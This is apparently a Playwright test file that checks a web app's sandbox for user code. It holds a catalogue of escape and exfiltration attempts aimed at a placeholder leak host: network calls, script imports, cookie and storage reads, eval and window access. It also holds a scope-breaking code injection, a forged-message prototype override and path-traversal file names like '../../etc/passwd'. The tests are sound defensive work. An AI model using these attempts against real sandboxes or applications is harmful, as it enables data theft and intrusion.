import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { runModule, SMALL_SCAN } from './module-page.ts';
import { XtcWindow } from './xtc-window.ts';

// The page's console is full of refusals here: that is what is tested.

let server: Server;
let heard: string[] = [];
let host = '';

test.beforeAll(async () => {
  server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*').end('self.leaked = true;');
  });
  server.on('connection', () => heard.push('connection'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
});
test.afterAll(() => server.close());
test.beforeEach(() => void (heard = []));

/** What a module tries; each is the body of an async function that gives something when it got through. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  fetch: `return (await fetch('http://HOST/leak')).status`,
  'fetch without cors': `return (await fetch('http://HOST/leak', { mode: 'no-cors' })).type`,
  'fetch of the app': `return (await fetch('SITE/leak')).status`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/leak', false); x.send(); return x.status`,
  WebSocket: `return new Promise((resolve, reject) => { const s = new WebSocket('ws://HOST/leak'); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error('refused')); })`,
  WebSocketStream: `return (await new WebSocketStream('ws://HOST/leak').opened).protocol`,
  WebTransport: `const t = new WebTransport('https://HOST/leak'); await t.ready; return 'ready'`,
  EventSource: `return new Promise((resolve, reject) => { const s = new EventSource('http://HOST/leak'); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error('refused')); })`,
  sendBeacon: `return navigator.sendBeacon('http://HOST/leak', 'x')`,
  'import()': `return import('http://HOST/leak')`,
  'import() of the app': `return import('SITE/leak.js')`,
  'import() of a blob': `return import(URL.createObjectURL(new Blob(['export const a = 1'], { type: 'text/javascript' })))`,
  'import() of a data url': `return import('data:text/javascript,export const a = 1')`,
  importScripts: `importScripts('http://HOST/leak'); return 'loaded'`,
  'importScripts of the app': `importScripts('SITE/leak.js'); return 'loaded'`,
  'nested worker': `return new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).constructor.name`,
  'shared worker': `return new SharedWorker('SITE/leak.js').constructor.name`,
  'service worker': `return (await navigator.serviceWorker.register('SITE/leak.js')).scope`,
  broadcast: `new BroadcastChannel('leak').postMessage(1); return 'posted'`,
  indexedDB: `return new Promise((resolve, reject) => { const r = indexedDB.open('leak'); r.onsuccess = () => resolve('open'); r.onerror = () => reject(r.error); })`,
  caches: `return (await caches.open('leak')).constructor.name`,
  'origin private files': `return (await navigator.storage.getDirectory()).name`,
  localStorage: `return localStorage.length`,
  sessionStorage: `return sessionStorage.length`,
  cookies: `return document.cookie`,
  'cookie store': `return (await cookieStore.getAll()).length`,
  locks: `return navigator.locks.request('leak', () => 'got')`,
  parent: `return parent.document.title`,
  top: `return top.location.href`,
  window: `return window.xtcscope`,
  opener: `return opener.closed`,
  navigation: `location.href = 'http://HOST/leak'; await new Promise((r) => setTimeout(r, 300)); throw new Error(location.href.startsWith('blob:') ? 'stayed' : 'gone')`,
  eval: `return eval('1 + 1')`,
  'eval behind a name': `return (0, eval)('1 + 1')`,
  Function: `return new Function('return 1')()`,
  'constructor of a function': `return (async () => {}).constructor('return 1')()`,
  'timer with a text': `return new Promise((resolve, reject) => { self.hit = () => resolve('ran'); setTimeout('hit()', 0); setTimeout(() => reject(new Error('nothing')), 300); })`,
  'file picker': `return (await showOpenFilePicker()).length`,
  notification: `return (await Notification.requestPermission()) === 'granted' ? 'granted' : Promise.reject(new Error('denied'))`,
  'push a URL of the page': `return (await fetch(self.name || 'blob:SITE/0')).status`,
};

test('user code gets at nothing: each attempt fails, and nobody hears of it', async ({ page }) => {
  const isLeak = (url: string): boolean => url.includes('leak') || url.includes(host);
  // What a policy refuses is announced too, but never sent.
  const reasons: (string | undefined)[] = [];
  const answered: string[] = [];
  page.on('requestfailed', (request) => isLeak(request.url()) && reasons.push(request.failure()?.errorText));
  page.on('response', (response) => isLeak(response.url()) && answered.push(response.url()));
  const window = new XtcWindow(page);
  await window.goto();
  await window.open(...SMALL_SCAN);
  const site = new URL(page.url()).origin;
  const tries = Object.entries(ATTEMPTS).map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body.replaceAll('HOST', host).replaceAll('SITE', site)}; }`);
  const source = `class A { async beginjob() {
    const tries = { ${tries.join(',\n')} };
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        const got = await Promise.race([attempt(), new Promise((resolve, reject) => setTimeout(() => reject(new Error('silence')), 1500))]);
        print(name + ': GOT ' + String(got));
      } catch (error) { print(name + ': refused'); }
    }
  } }`;
  const job = await runModule(page, { source, patienceSeconds: 60 });
  expect(job.problems).toEqual([]);
  expect(job.lines).toEqual(Object.keys(ATTEMPTS).map((name) => `${name}: refused`));
  expect(heard).toEqual([]);
  expect(answered).toEqual([]);
  expect([...new Set(reasons)]).toEqual(['csp']);
});

test('code that breaks out of its scope is still in the sandbox, and what it sends is checked', async ({ page }) => {
  const window = new XtcWindow(page);
  await window.goto();
  await window.open(...SMALL_SCAN);
  const source = `} }); fetch('http://${host}/leak').catch(() => 0); importScripts; ({ x: function () { {`;
  expect((await runModule(page, { source, patienceSeconds: 3 })).state).toBe('failed');
  const forged = `class A { event() { const port = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (m) { port.call(this, { type: 'output', part: 0, lines: [], plots: [{ kind: 'bad' }], saved: [], texts: [], problems: [] }); }; return Stop; } }`;
  const job = await runModule(page, { source: forged, patienceSeconds: 3 });
  expect(job.state).toBe('failed');
  const names = `class A { endjob(env) { for (const name of ['../../etc/passwd', '..', '/a/b', 'C:\\\\x\\\\y.txt', '']) env.mkfile(name).write('x'); } }`;
  expect((await runModule(page, { source: names })).files.map(({ name }) => name)).toEqual(['passwd', 'unnamed', 'b', 'y.txt']);
  expect(heard).toEqual([]);
  await window.tab('Summary').click();
  await expect(page.locator('xtc-summary-view')).toBeVisible();
});
